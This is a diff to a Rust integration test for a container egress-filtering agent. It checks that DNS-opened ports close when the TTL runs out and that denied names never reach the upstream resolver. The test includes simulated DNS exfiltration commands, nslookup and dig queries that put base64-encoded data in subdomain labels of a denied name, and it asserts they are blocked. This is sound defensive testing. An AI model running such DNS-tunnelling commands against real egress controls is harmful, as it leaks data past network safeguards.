@@ -16,7 +16,7 @@ use egress_tests::canary::Canary;
 use egress_tests::docker::{
     DIRECT_IP, Env, GATEWAY, IMAGE, PROXY, SERIAL, UPSTREAM_IP, cgroup2_mount, require_root, sh_ok,
 };
-use egress_tests::upstreams::{TempDir, TestCa, WebServer};
+use egress_tests::upstreams::{Dnsmasq, TempDir, TestCa, WebServer};
 
 fn env_new() -> Env {
     Env::new(&[
@@ -1077,16 +1077,17 @@ allow_cidrs = ["198.18.0.1/32"]
 
 /// Direct ports in Docker (`{ host, ports }`): the agent's DNS answer to one container opens the
 /// answered address on that port in both layers (its cgroup's kernel allowance and its host-layer
-/// set), for that container only; the same port at another address, another port at the
-/// answered address, and the same address from a container that never asked stay refused — and
-/// nothing of theirs arrives.
+/// set), for that container only and until the answer's TTL; the same port at another address,
+/// another port at the answered address, and the same address from a container that never asked
+/// stay refused — and nothing of theirs arrives. Also: labels of a denied name (UDP to Docker's
+/// resolver, TCP to `8.8.8.8`) never reach the agent's upstream resolver.
 #[test]
 fn direct_ports_follow_dns_answers() {
     if !require_root() {
         return;
     }
     let _g = lock();
-    let env = env_new();
+    let mut env = env_new();
     const OTHER_IP: &str = "45.90.0.2";
     env.d.netns.sh(&format!(
         "ip addr add {DIRECT_IP}/32 dev lo; ip addr add {OTHER_IP}/32 dev lo"
@@ -1102,18 +1103,37 @@ fn direct_ports_follow_dns_answers() {
             &[],
         )
     });
-    env.write_config(&env.config_text(
-        r#"[policies.ssh]
-allow_hosts = [{ host = "direct.test", ports = [2222] }]
+    // The agent's upstream resolver, recording every query: `short.test` with TTL 1
+    // (`direct.test` comes from the hosts file, with a long TTL).
+    let dns_dir = TempDir::new("docker-direct-dns");
+    let dns = env.d.netns.run(|| {
+        Dnsmasq::start(
+            dns_dir.path(),
+            sock("127.0.0.1:5353".into()),
+            &[("short.test", OTHER_IP.parse().expect("test value"))],
+        )
+    });
+    env.write_config(
+        &env.config_text(
+            r#"[policies.ssh]
+allow_hosts = [{ host = "direct.test", ports = [2222] }, { host = "short.test", ports = [2222] }]
 allow_ports = [8080]
 [policies.canary]
 allow_cidrs = ["198.18.0.1/32"]
 "#,
-    ));
-    let o = env.cli(&["reload"]);
-    assert!(o.status.success(), "reload refused: {o:?}");
+        )
+        .replace("nameservers = []", "nameservers = [\"127.0.0.1:5353\"]"),
+    );
+    // `[dns]` takes effect on a restart only.
+    env.kill_agent();
+    env.start_agent();
     for name in ["ds-1", "ds-2"] {
-        env.start_ok(name, &["--label", "egress.policy=ssh"], &["sleep", "600"]);
+        // The host's /usr (read-only) for dig.
+        env.start_ok(
+            name,
+            &["--label", "egress.policy=ssh", "-v", "/usr:/usr:ro"],
+            &["sleep", "600"],
+        );
     }
     for name in ["ds-1", "ds-2"] {
         assert!(
@@ -1138,7 +1158,11 @@ allow_cidrs = ["198.18.0.1/32"]
     );
     let other = env.exec_out(
         "ds-2",
-        &format!("echo \"othercontainer $(egress-probe tcp {DIRECT_IP} 2222 othercontainer-{m})\""),
+        &format!(
+            "echo \"othercontainer $(egress-probe tcp {DIRECT_IP} 2222 othercontainer-{m})\"; \
+             echo \"exfil-udp $(nslookup c2VjcmV0.x{m}.denied.test 2>&1 | tr '\\n' ' ')\"; \
+             echo \"exfil-tcp $(/usr/bin/dig +tcp +tries=1 +time=3 @8.8.8.8 dGNw.x{m}.denied.test 2>&1 | grep -E 'status|connection' | tr '\\n' ' ')\""
+        ),
     );
     assert!(
         out.contains("before err 1 "),
@@ -1163,22 +1187,40 @@ allow_cidrs = ["198.18.0.1/32"]
             "{refused}: arrived at the listener"
         );
     }
+    // Denied names: NXDOMAIN from the agent, over UDP and TCP, and their labels never left it.
+    assert!(
+        other
+            .lines()
+            .any(|l| l.starts_with("exfil-udp") && l.contains("NXDOMAIN")),
+        "{other}"
+    );
+    assert!(
+        other
+            .lines()
+            .any(|l| l.starts_with("exfil-tcp") && l.contains("status: NXDOMAIN")),
+        "{other}"
+    );
+    assert_eq!(
+        dns.queries_for(&format!("x{m}")),
+        0,
+        "a denied name reached the upstream resolver: {}",
+        dns.log()
+    );
     // The second layer holds the address for ds-1 only, with the answer's TTL as its timeout.
     let id = env.d.inspect("ds-1", "{{.Id}}");
     let set = format!("d{}p2222", &id.trim()[..12]);
-    let listing = env
-        .d
-        .netns
-        .sh(&format!("nft list set inet egress_agent {set}"));
+    let list = |set: &str| {
+        env.d
+            .netns
+            .sh(&format!("nft list set inet egress_agent {set}"))
+    };
+    let listing = list(&set);
     assert!(
         listing.contains(DIRECT_IP) && listing.contains("expires"),
         "ds-1's direct set: {listing}"
     );
     let id2 = env.d.inspect("ds-2", "{{.Id}}");
-    let listing2 = env.d.netns.sh(&format!(
-        "nft list set inet egress_agent d{}p2222",
-        &id2.trim()[..12]
-    ));
+    let listing2 = list(&format!("d{}p2222", &id2.trim()[..12]));
     assert!(
         !listing2.contains(DIRECT_IP),
         "ds-2 never asked: {listing2}"
@@ -1191,6 +1233,48 @@ allow_cidrs = ["198.18.0.1/32"]
         "no kernel denial event for the other port: {:?}",
         env.events()
     );
+
+    // A short TTL (1 s from the upstream): open, then closed again in both layers.
+    let expiry = env.exec_out(
+        "ds-1",
+        &format!(
+            "nslookup short.test >/dev/null 2>&1; i=0; while [ $i -lt 40 ]; do \
+             r=$(egress-probe tcp {OTHER_IP} 2222 exp-{m}-$i); echo \"$i $r\"; \
+             case \"$r\" in err*) echo EXPIRED; break;; esac; i=$((i+1)); sleep 0.5; done"
+        ),
+    );
+    assert!(
+        expiry.starts_with("0 ok"),
+        "short.test was answered and opened:\n{expiry}"
+    );
+    assert!(
+        expiry.contains("EXPIRED"),
+        "the allowance must end with the TTL:\n{expiry}"
+    );
+    assert!(listeners.wait_for(&format!("exp-{m}-0"), Duration::from_secs(3)));
+    let last = expiry
+        .lines()
+        .rfind(|l| l.contains(" err "))
+        .and_then(|l| l.split(' ').next())
+        .expect("an expired attempt")
+        .to_owned();
+    assert!(
+        !listeners.saw(&format!("exp-{m}-{last}")),
+        "attempt {last} arrived after the TTL"
+    );
+    assert!(
+        dns.queries_for("short.test") > 0,
+        "the agent asked its upstream"
+    );
+    let deadline = Instant::now() + Duration::from_secs(5);
+    while list(&set).contains(OTHER_IP) {
+        assert!(
+            Instant::now() < deadline,
+            "the nft element outlived its TTL: {}",
+            list(&set)
+        );
+        std::thread::sleep(Duration::from_millis(100));
+    }
     // Stopped: its set goes with its rules.
     env.d.docker_ok(&["rm", "-f", "ds-1", "ds-2"]);
     assert!(
